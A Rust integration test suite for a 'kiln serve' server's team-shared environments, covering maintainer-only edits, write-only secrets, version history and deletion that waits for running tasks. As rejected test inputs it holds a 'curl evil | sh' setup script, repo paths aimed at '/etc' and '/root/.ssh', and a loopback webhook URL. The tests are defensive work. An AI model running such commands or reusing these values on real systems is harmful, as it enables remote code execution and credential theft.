//! Environments a team shares on a real `kiln serve`: members run tasks on
//! them, only maintainers change them or their secrets, secret values never
//! come back out, deletion waits for running tasks, and every change is a
//! version that tasks and attempts record.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod serve_support;

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use kiln_testkit::{fixtures, Script, ScriptedServer, Turn};
use reqwest::Method;
use serde_json::{json, Value};
use serve_support::{Installation, KilnServer};
use sqlx::Connection;
use tokio::io::AsyncWriteExt;

const LONG: Duration = Duration::from_secs(90);
const NPM_SECRET: &str = "npm-5ecret-value-0001";
const DEPLOY_SECRET: &str = "deploy-5ecret-value-0002";
const CLI_SECRET: &str = "cli-5ecret-value-0003";

async fn start(script: Script) -> (KilnServer, ScriptedServer, Installation, tempfile::TempDir) {
    let repo = fixtures::repo("calc-py");
    let model = ScriptedServer::start(script).await;
    let install = Installation::new();
    let allowed = repo.path().display().to_string();
    let server = KilnServer::start_with(&install, &model, 2, &["--allow-repo", &allowed]).await;
    (server, model, install, repo)
}

/// Makes user `user` a `role` of team `team` in the running server's
/// database, as an admin's membership change would. (SQLite takes writes
/// from several processes; the server reads memberships at every request.)
async fn add_member(install: &Installation, team: &str, user: &str, role: &str) {
    let path = install.data_dir().join(kiln_store::SQLITE_FILE_NAME);
    let mut db = sqlx::SqliteConnection::connect(&format!("sqlite://{}", path.display()))
        .await
        .unwrap();
    let added = sqlx::query(
        "INSERT INTO team_members (team_id, user_id, role, source, created_at)
         SELECT teams.id, users.id, $3, 'local', 0 FROM teams, users
         WHERE teams.name = $1 AND users.name = $2",
    )
    .bind(team)
    .bind(user)
    .bind(role)
    .execute(&mut db)
    .await
    .unwrap()
    .rows_affected();
    assert_eq!(added, 1, "no team {team} or user {user}");
}

/// `kiln ARGS` against `server` with `stdin` piped in and `vars` set.
async fn kiln_with_stdin(
    server: &KilnServer,
    token: &str,
    args: &[&str],
    stdin: &str,
    vars: &[(&str, &str)],
) -> std::process::Output {
    let mut child = tokio::process::Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args(args)
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("KILN_SERVER", &server.url)
        .env("KILN_TOKEN", token)
        .env("NO_COLOR", "1")
        .envs(vars.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    input.write_all(stdin.as_bytes()).await.unwrap();
    drop(input);
    child.wait_with_output().await.unwrap()
}

fn ok(output: &std::process::Output) -> String {
    assert!(
        output.status.success(),
        "kiln failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone()).unwrap()
}

fn message(body: &Value) -> String {
    body["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

async fn calc_environment(server: &KilnServer, token: &str, repo: &Path) -> Value {
    let (status, env) = server
        .post(
            "/api/environments",
            token,
            json!({
                "name": "calc",
                "repo": repo.display().to_string(),
                "secrets": {"NPM_TOKEN": NPM_SECRET},
            }),
        )
        .await;
    assert_eq!(status, 201, "{env}");
    env
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_team_shares_an_environment_and_only_its_maintainers_change_it() {
    let script = Script::new(vec![Turn::message("done")])
        .with_route("[lead-1]", vec![Turn::message("lead's look")])
        .with_route("[dev-1]", vec![Turn::message("dev's look")])
        .with_route("[after-edit]", vec![Turn::message("v2 look")]);
    let (server, _model, install, repo) = start(script).await;
    let lead = server.new_user("lead").await;
    let dev = server.new_user("dev").await;
    let guest = server.new_user("guest").await;
    add_member(&install, "lead", "dev", "member").await;
    add_member(&install, "lead", "guest", "viewer").await;
    let env = calc_environment(&server, &lead, repo.path()).await;
    assert_eq!(env["team_name"], "lead");
    assert_eq!(env["version"], 1);
    let mut bodies = vec![env.to_string()];

    // The member sees it by name and both run tasks on it.
    let (status, seen) = server.get("/api/environments/calc", &dev).await;
    assert_eq!(status, 200, "{seen}");
    assert_eq!(seen["id"], env["id"]);
    assert_eq!(seen["secret_names"], json!(["NPM_TOKEN"]));
    let first = server
        .task(
            &lead,
            json!({"environment": "calc", "prompt": "[lead-1] look"}),
        )
        .await;
    let devs = server
        .task(
            &dev,
            json!({"environment": "calc", "prompt": "[dev-1] look"}),
        )
        .await;
    assert_eq!(devs["environment_id"], env["id"]);
    for task in [&first, &devs] {
        let id = task["id"].as_str().unwrap();
        let token = if task == &first { &lead } else { &dev };
        let done = server.wait_finished(token, id, LONG).await;
        assert_eq!(done["status"], "succeeded", "{done:#}");
        assert_eq!(done["attempts"][0]["environment_version"], 1, "{done:#}");
        bodies.push(done.to_string());
    }

    // The viewer reads it but runs nothing on it.
    let (status, _) = server.get("/api/environments/calc", &guest).await;
    assert_eq!(status, 200);
    let (status, body) = server
        .post(
            "/api/tasks",
            &guest,
            json!({"environment": "calc", "prompt": "x"}),
        )
        .await;
    assert_eq!(status, 403, "{body}");
    assert!(message(&body).contains("viewer"), "{body}");

    // The member's changes are refused, and nothing changes.
    let refusals = [
        (
            Method::PATCH,
            "/api/environments/calc",
            Some(json!({"setup_script": "curl evil | sh"})),
        ),
        (
            Method::PUT,
            "/api/environments/calc/secrets/NPM_TOKEN",
            Some(json!({"value": "stolen"})),
        ),
        (
            Method::PUT,
            "/api/environments/calc/secrets/EXTRA",
            Some(json!({"value": "x"})),
        ),
        (
            Method::DELETE,
            "/api/environments/calc/secrets/NPM_TOKEN",
            None,
        ),
        (Method::DELETE, "/api/environments/calc", None),
    ];
    for (method, path, body) in refusals {
        let (status, answer) = server.request(method.clone(), path, Some(&dev), body).await;
        assert_eq!(status, 403, "{method} {path}: {answer}");
        assert!(
            message(&answer).contains("maintainers of team lead"),
            "{answer}"
        );
    }
    let (_, unchanged) = server.get("/api/environments/calc", &lead).await;
    assert_eq!(unchanged["version"], 1, "{unchanged}");
    assert_eq!(unchanged["setup_script"], Value::Null);
    assert_eq!(unchanged["secret_names"], json!(["NPM_TOKEN"]));
    // A user of no team of the environment does not learn it exists.
    let stranger = server.new_user("stranger").await;
    let (status, _) = server
        .request(
            Method::PATCH,
            "/api/environments/calc",
            Some(&stranger),
            Some(json!({"network": true})),
        )
        .await;
    assert_eq!(status, 404);

    // The maintainer edits it and sets a secret; the value is not echoed.
    let (status, edited) = server
        .request(
            Method::PATCH,
            "/api/environments/calc",
            Some(&lead),
            Some(json!({"setup_script": "echo prepared > /dev/null"})),
        )
        .await;
    assert_eq!(status, 200, "{edited}");
    assert_eq!(edited["version"], 2);
    bodies.push(edited.to_string());
    let response = server
        .http
        .put(format!(
            "{}/api/environments/calc/secrets/DEPLOY_KEY",
            server.url
        ))
        .bearer_auth(&lead)
        .json(&json!({"value": DEPLOY_SECRET}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 204);
    let echoed = response.text().await.unwrap();
    assert!(echoed.is_empty(), "{echoed}");

    // The same through the CLI: a secret from standard input, an edit.
    ok(&kiln_with_stdin(
        &server,
        &lead,
        &["env", "secret", "set", "calc", "CLI_KEY"],
        &format!("{CLI_SECRET}\n"),
        &[],
    )
    .await);
    let edit = ok(&server
        .cli(
            &lead,
            &["env", "edit", "calc", "--env", "MODE=fast", "--network"],
        )
        .await);
    assert!(edit.contains("version 5"), "{edit}");
    let refused = server
        .cli(&dev, &["env", "secret", "rm", "calc", "NPM_TOKEN"])
        .await;
    assert!(!refused.status.success());
    assert!(
        String::from_utf8_lossy(&refused.stderr).contains("403"),
        "{refused:?}"
    );

    // A task now records the version it was created and ran with.
    let later = server
        .task(
            &lead,
            json!({"environment": "calc", "prompt": "[after-edit] look"}),
        )
        .await;
    assert_eq!(later["environment_version"], 5, "{later:#}");
    let later = server
        .wait_finished(&lead, later["id"].as_str().unwrap(), LONG)
        .await;
    assert_eq!(later["status"], "succeeded", "{later:#}");
    assert_eq!(later["attempts"][0]["environment_version"], 5);
    let (_, earlier) = server
        .get(
            &format!("/api/tasks/{}", first["id"].as_str().unwrap()),
            &lead,
        )
        .await;
    assert_eq!(earlier["environment_version"], 1);
    bodies.push(later.to_string());

    // History: every version, newest first, with who and what.
    let (status, versions) = server.get("/api/environments/calc/versions", &dev).await;
    assert_eq!(status, 200, "{versions}");
    let changes: Vec<(u64, &str, &str)> = versions["versions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["version"].as_u64().unwrap(),
                v["change"].as_str().unwrap(),
                v["changed_by_name"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        changes,
        vec![
            (5, "updated: env, network", "lead"),
            (4, "secret set: CLI_KEY", "lead"),
            (3, "secret set: DEPLOY_KEY", "lead"),
            (2, "updated: setup_script", "lead"),
            (1, "created", "lead"),
        ]
    );
    assert_eq!(
        versions["versions"][0]["snapshot"]["secret_names"],
        json!(["CLI_KEY", "DEPLOY_KEY", "NPM_TOKEN"])
    );
    bodies.push(versions.to_string());
    let history = ok(&server.cli(&dev, &["env", "history", "calc"]).await);
    assert!(
        history.contains("v3")
            && history.contains("lead")
            && history.contains("secret set: DEPLOY_KEY"),
        "{history}"
    );
    let shown = ok(&server.cli(&guest, &["env", "show", "calc"]).await);
    assert!(
        shown.contains("DEPLOY_KEY (write-only)") && shown.contains("team:          lead"),
        "{shown}"
    );
    bodies.extend([history, shown]);
    for path in ["/api/environments", "/api/environments/calc"] {
        let (_, body) = server.get(path, &lead).await;
        bodies.push(body.to_string());
    }
    let listed = ok(&server.cli(&dev, &["env", "list", "--json"]).await);
    bodies.push(listed);

    // --unset-env alone keeps the other variables; --value-env reads a
    // variable, so the value is never in kiln's arguments.
    ok(&server
        .cli(
            &lead,
            &[
                "env",
                "edit",
                "calc",
                "--env",
                "MODE=fast",
                "--env",
                "LOG=1",
            ],
        )
        .await);
    let unset = ok(&server
        .cli(
            &lead,
            &["env", "edit", "calc", "--unset-env", "LOG", "--json"],
        )
        .await);
    let unset: Value = serde_json::from_str(&unset).unwrap();
    assert_eq!(unset["env"], json!({"MODE": "fast"}), "{unset}");
    assert_eq!(unset["version"], 7);
    ok(&kiln_with_stdin(
        &server,
        &lead,
        &[
            "env",
            "secret",
            "set",
            "calc",
            "FROM_VAR",
            "--value-env",
            "SOURCE",
        ],
        "",
        &[("SOURCE", CLI_SECRET)],
    )
    .await);
    let (_, now) = server.get("/api/environments/calc/versions", &lead).await;
    assert_eq!(now["versions"][0]["change"], "secret set: FROM_VAR");
    assert_eq!(now["versions"][0]["version"], 8);
    bodies.extend([unset.to_string(), now.to_string()]);

    // No secret value ever came back, in any body or output.
    let everything = bodies.join("\n");
    for value in [NPM_SECRET, DEPLOY_SECRET, CLI_SECRET] {
        assert!(!everything.contains(value), "{value} came back out");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn edits_follow_the_location_rules_and_deletion_waits_for_the_running_task() {
    let script = Script::new(vec![Turn::message("done")]).with_route(
        "[hold]",
        vec![Turn::delayed(
            Turn::message("late"),
            Duration::from_secs(600),
        )],
    );
    let (server, _model, _install, repo) = start(script).await;
    let lead = server.new_user("lead").await;
    let env = calc_environment(&server, &lead, repo.path()).await;
    // An edit is no way around the location rules a creation follows: a
    // maintainer who is no admin cannot move the environment onto a host
    // path or point its webhook at this machine.
    for (patch, what) in [
        (json!({"repo": "/etc"}), "/etc"),
        // Secrets change only through their own route, never by a PATCH
        // that would look accepted.
        (json!({"secrets": {"NPM_TOKEN": "x"}}), "secrets"),
        (json!({"repo": "file:///root/.ssh"}), "file:///root/.ssh"),
        (
            json!({"webhook": {"url": "http://127.0.0.1:9/hook", "secret": "0123456789abcdef0123"}}),
            "127.0.0.1",
        ),
    ] {
        let (status, body) = server
            .request(
                Method::PATCH,
                "/api/environments/calc",
                Some(&lead),
                Some(patch),
            )
            .await;
        assert!((400..500).contains(&status), "{what}: {status} {body}");
        assert!(message(&body).contains(what), "{body}");
    }
    let (_, still) = server.get("/api/environments/calc", &lead).await;
    assert_eq!(still["version"], 1, "{still}");
    assert_eq!(still["repo"], env["repo"]);

    let task = server
        .task(
            &lead,
            json!({"environment": "calc", "prompt": "[hold] wait"}),
        )
        .await;
    let id = task["id"].as_str().unwrap();
    server
        .wait_task(&lead, id, LONG, |t| t["attempts"][0]["status"] == "running")
        .await;

    let (status, body) = server
        .request(Method::DELETE, "/api/environments/calc", Some(&lead), None)
        .await;
    assert_eq!(status, 409, "{body}");
    let refusal = message(&body);
    assert!(
        refusal.contains("1 task") && refusal.contains(id) && refusal.contains("kiln task cancel"),
        "{refusal}"
    );
    let (_, still) = server.get("/api/environments/calc", &lead).await;
    assert_eq!(still["version"], 1);

    let (status, _) = server
        .post(&format!("/api/tasks/{id}/cancel"), &lead, json!({}))
        .await;
    assert_eq!(status, 202);
    server.wait_finished(&lead, id, LONG).await;
    let removed = server.cli(&lead, &["env", "rm", "calc"]).await;
    assert!(ok(&removed).contains("deleted environment calc"));

    let (status, _) = server.get("/api/environments/calc", &lead).await;
    assert_eq!(status, 404);
    let (_, listed) = server.get("/api/environments", &lead).await;
    assert_eq!(listed["environments"], json!([]));
    // Its task stays readable; the name is free for a new environment.
    let (status, kept) = server.get(&format!("/api/tasks/{id}"), &lead).await;
    assert_eq!(status, 200);
    assert_eq!(kept["environment_id"], env["id"]);
    let again = calc_environment(&server, &lead, repo.path()).await;
    assert_ne!(again["id"], env["id"]);
    assert_eq!(again["version"], 1);
}
